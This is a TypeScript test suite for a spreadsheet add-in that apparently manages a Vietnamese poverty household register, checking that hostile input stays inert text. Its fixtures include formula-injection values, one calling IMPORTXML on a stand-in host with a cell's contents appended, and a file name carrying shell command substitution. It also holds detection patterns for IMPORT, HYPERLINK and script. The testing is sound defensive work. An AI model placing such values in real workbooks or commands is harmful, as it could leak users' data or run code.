/** Text that a sheet, a page or a shell would run is text in every place the built add-in puts it. */
import { existsSync, mkdtempSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { strFromU8, unzipSync } from 'fflate';
import type { FakeEnvironment } from '../../runner/fake-apps-script/index';
import type { MemorySheet } from '../../runner/fake-apps-script/workbook/types';
import { saveWorkbook } from '../../runner/xlsx/save';
import { MENU } from '../../src/addin/menu';
import { built, ROOT } from '../support/built';
import { HOSTILE, HOSTILE_PLAN, HOSTILE_SHEET, hostileWard } from '../support/hostile-ward';
import { runArguments } from '../support/run-cli';
import { open, type Opened } from '../support/small-workbook';

/** Functions our formulas call; each reads cells of the sheet it stands on or of this workbook. */
const OURS = /^(?:SUM|INT|ROUND|MIN|MAX|IF|ABS|COUNTA?|COUNTIF|FORMULATEXT|NGHEO_\w+)$/;
const ACTIONS = MENU.flatMap((entry) =>
  entry === 'separator' ? [] : 'items' in entry ? entry.items : [entry],
)
  .map(({ run }) => run)
  .filter((run) => !['xoaDuLieu', 'tuKiemTra', 'hoanTac', 'boToMauLoi', 'doiNgonNgu'].includes(run));
/** The workbook has one register, to which nothing can be merged, and a target sheet already: they say so in a sentence. */
const REFUSED = ['chenMauSoHo', 'chenMauChiTieu', 'chenBangDiemB1', 'gopSo'];
const OPTIONS = { options: { area: 'rural', asOf: '2024-12-31', planText: HOSTILE_PLAN } };

let opened: Opened;
let environment: FakeEnvironment;
let before: string[];
let ours: MemorySheet[];
const answers: Record<string, { ok?: boolean; error?: { message: string } } | null> = {};
beforeAll(async () => {
  opened = await open(await hostileWard(), { answers: HOSTILE.map((text) => ({ button: 'OK', text })) });
  ({ environment } = opened);
  before = environment.workbook.sheets.map(({ formulas }) => JSON.stringify([...formulas]));
  for (const action of ACTIONS) {
    // Where a row is waived, the answers are a reason and a name that begin like formulas.
    environment.select(`'GN Lỗi dữ liệu'!A20`);
    answers[action] = opened.bundle.call(action, [OPTIONS]) as (typeof answers)[string];
  }
  ours = environment.workbook.sheets.filter(({ name }) => name.startsWith('GN '));
}, 120_000);

const cellsOf = ({ values }: MemorySheet) => values.flat();

describe('every sheet the add-in writes', () => {
  it('is written, and shows what stands in the register', () => {
    for (const [action, answer] of Object.entries(answers).filter(([name]) => !REFUSED.includes(name)))
      expect([action, answer?.ok === false ? answer.error?.message : '']).toEqual([action, '']);
    const names = ours.map(({ name }) => name);
    expect(names).toEqual(
      expect.arrayContaining([
        ...['GN Lỗi dữ liệu', 'GN Phân loại hộ', 'GN Chỉ số', 'GN Tiến độ chỉ tiêu', 'GN Nhật ký sửa'],
        ...['GN Nhiệm vụ', 'GN Theo đơn vị', 'GN Theo tổ', 'GN Phiếu tổ', 'GN Bản công khai', 'GN Lịch sử'],
      ]),
    );
    const texts = ours.flatMap(cellsOf).map(String);
    // Each of them reaches a sheet, in a cell of its own or in a sentence.
    for (const text of HOSTILE) {
      const shown = text.trim().replace(/^'/, '');
      expect([text, texts.some((cell) => cell.includes(shown))]).toEqual([text, true]);
    }
  });

  it('has no formula but ours', () => {
    for (const { name, formulas } of ours.filter((sheet) => sheet.name !== 'GN Hướng dẫn'))
      for (const { text } of formulas.values()) {
        const called = [...text.matchAll(/([A-Za-z_.]\w*)\s*\(/g)].map(([, called = '']) => called);
        expect([name, text, called.filter((each) => !OURS.test(each))]).toEqual([name, text, []]);
        expect(text).not.toMatch(/IMPORT|HYPERLINK|http|cmd|script/i);
      }
  });

  it('keeps a name that begins like a formula whole, sign and all', () => {
    const classes = ours.find(({ name }) => name === 'GN Phân loại hộ');
    const cells = cellsOf(classes!);
    for (const text of ['=HYPERLINK("http://a.example";"Bấm")', '+84905123987', '-2+3', '@SUM(A1)'])
      expect([text, cells.some((cell) => String(cell).includes(text))]).toEqual([text, true]);
    // '-2+3' would be 1, '+84905123987' a number.
    expect(cells).not.toContain(84905123987);
  });

  it('links to cells of this workbook only', () => {
    const links = ours.flatMap(({ richTexts }) =>
      [...richTexts.values()].flat().flatMap(({ link }) => link ?? []),
    );
    expect(links.length).toBeGreaterThan(10);
    expect(links.filter((link) => !/^#gid=\d+(&range=[A-Z]+\d+)?$/.test(link))).toEqual([]);
  });

  it('colours by words of ours alone', () => {
    const rules = ours.flatMap(({ conditionalRules }) => conditionalRules.flatMap(({ values }) => values));
    expect(rules.map(String).filter((value) => /^[=+@-]|[<>{}]/.test(value))).toEqual([]);
  });
});

describe('GN Sổ gộp', () => {
  it('shows both sheets’ text as it stands, and no formula', async () => {
    const two = await open(await hostileWard(['Thôn =1+1']));
    const answer = two.bundle.call('gopSo', [OPTIONS]) as (typeof answers)[string];
    expect(answer?.error?.message).toBeUndefined();
    const merged = two.environment.workbook.sheets.find(({ name }) => name === 'GN Sổ gộp')!;
    expect([...merged.formulas]).toEqual([]);
    const cells = new Set(cellsOf(merged).map(String));
    for (const text of [...HOSTILE.map((each) => each.trim().replace(/^'/, '')), HOSTILE_SHEET, 'Thôn =1+1'])
      expect([text, [...cells].some((cell) => cell.includes(text))]).toEqual([text, true]);
  });
});

describe('charts', () => {
  it('have titles and series of our words, and show cells of their own sheet', () => {
    const charts = ours.flatMap((sheet) => sheet.charts.map((chart) => ({ chart, sheet })));
    expect(charts.length).toBeGreaterThan(0);
    for (const { chart, sheet } of charts) {
      expect(JSON.stringify(chart.options)).not.toMatch(/IMPORT|HYPERLINK|script|onerror|cmd\|/i);
      expect(chart.ranges.every(({ sheetId }) => sheetId === sheet.id)).toBe(true);
      // Their labels are cells, which are text: no formula hands on what the staff typed as anything else.
      for (const { row, column, rows } of chart.ranges)
        for (let at = row; at < row + rows; at++)
          expect(['string', 'number', 'undefined']).toContain(typeof sheet.values[at]?.[column]);
    }
  });
});

describe('the staff’s own sheets', () => {
  it('get no formula by a fix, by colours or by notes', () => {
    const now = environment.workbook.sheets.filter(({ name }) => !name.startsWith('GN '));
    const staff = now.filter(({ origin }) => origin !== null);
    expect(staff.map(({ formulas }) => JSON.stringify([...formulas]))).toEqual(before);
    const list = staff.find(({ name }) => name === HOSTILE_SHEET)!;
    // A space too many, and a name like a formula without it: the safe fix is not made.
    expect(list.values[3]?.[1]).toBe('=IMPORTXML("http://a.example/?"&A1;"//b")  Văn  An');
    // The telephone is mended, +84 905 123 987, and stays text: a number would lose its first zero.
    expect(list.values[12]?.[5]).toBe('0905123987');
  });

  it('get notes that are the sentences, behind the staff’s own', () => {
    const list = environment.workbook.sheets.find(({ name }) => name === HOSTILE_SHEET)!;
    const notes = [...list.notes.values()];
    expect(notes.some((note) => note.includes('⟦GN kiểm tra: '))).toBe(true);
    expect(notes.some((note) => note.startsWith('=IMPORTXML'))).toBe(true);
  });
});

describe('dialogs and pages', () => {
  it('are the project’s own files, in which no text of the workbook stands', () => {
    opened.bundle.call('moBangLamViec');
    expect(environment.pages.length).toBeGreaterThan(1);
    for (const { html } of environment.pages)
      expect([built('Sidebar.html'), built('VanBan.html')]).toContain(html);
  });

  it('put what a server function returns on the page as text', () => {
    // Preact's text and textContent; nothing in the pages makes elements of a string.
    for (const page of ['Sidebar.html', 'VanBan.html'] as const) {
      const own = built(page).replace(/dangerouslySetInnerHTML/g, '');
      expect(own).not.toMatch(/insertAdjacentHTML|document\.write|outerHTML\s*=|createContextualFragment/);
    }
    expect(built('VanBan.html')).not.toMatch(/\.innerHTML\s*=/);
  });

  it('keep the braces of a name as they are: no slot of a sentence is filled by it', () => {
    opened.bundle.call('bangLuuLuaChon', [{ area: 'rural', asOf: '2024-12-31' }]);
    const said = JSON.stringify(opened.bundle.callFromPanel('bangDanhSachLoi'));
    expect(said).toContain('{count} $& $1 %s <?= x ?>');
  });
});

describe('the file the command line saves', () => {
  it('has every such text as text, and no formula or address of them', async () => {
    const small = await open(await hostileWard());
    small.bundle.call('lamTatCa', [OPTIONS]);
    const { workbook } = small.environment;
    const parts = unzipSync(await saveWorkbook(workbook));
    const xml = (wanted: RegExp) =>
      Object.entries(parts).flatMap(([name, bytes]) => (wanted.test(name) ? [strFromU8(bytes)] : []));
    const sheets = xml(/worksheets\/sheet\d+\.xml$/);
    expect(sheets).toHaveLength(workbook.sheets.length);
    const formulas = sheets.flatMap((text) => [...text.matchAll(/<f[ >][^<]*/g)].map(([formula]) => formula));
    expect(formulas.length).toBeGreaterThan(10);
    expect(formulas.filter((text) => /IMPORT|HYPERLINK|http|cmd|script/i.test(text))).toEqual([]);
    for (const text of [...xml(/worksheets\/_rels/), ...xml(/charts\/chart/), ...sheets]) {
      expect(text).not.toMatch(/TargetMode="External"|<script|<img|<b>/);
    }
    // The sheet's own name, in what the charts and the list of sheets say of it.
    expect(xml(/xl\/workbook\.xml$/)[0]).toContain('name="=&#39;x&#39;&amp;&#34;&lt;b&gt;&#34;"');
  });
});

describe('file names', () => {
  const name = '=cmd $(calc) `x` & <b>; -rf';
  const out = join(ROOT, 'out', `${name}.xlsx`);
  afterAll(() => rmSync(out, { force: true }));

  it('are the file’s own: nothing of it runs, and no text of a sheet names a file', async () => {
    const folder = mkdtempSync(join(tmpdir(), 'giam-ngheo-'));
    const file = join(folder, `${name}.xlsx`);
    writeFileSync(file, await hostileWard());
    const before = readdirSync(join(ROOT, 'out'));
    const run = runArguments('views', file, '--area', 'rural', '--as-of', '2024-12-31', '--quiet');
    expect([run.exitCode, run.stderr]).toEqual([0, '']);
    expect(existsSync(out)).toBe(true);
    expect(readdirSync(folder)).toEqual([`${name}.xlsx`]);
    // Other tests write there meanwhile, under names of the project's own.
    const fresh = readdirSync(join(ROOT, 'out')).filter((each) => !before.includes(each));
    expect(fresh.filter((each) => /[=$<'"]|IMPORT|HYPERLINK/.test(each))).toEqual([`${name}.xlsx`]);
  });
});
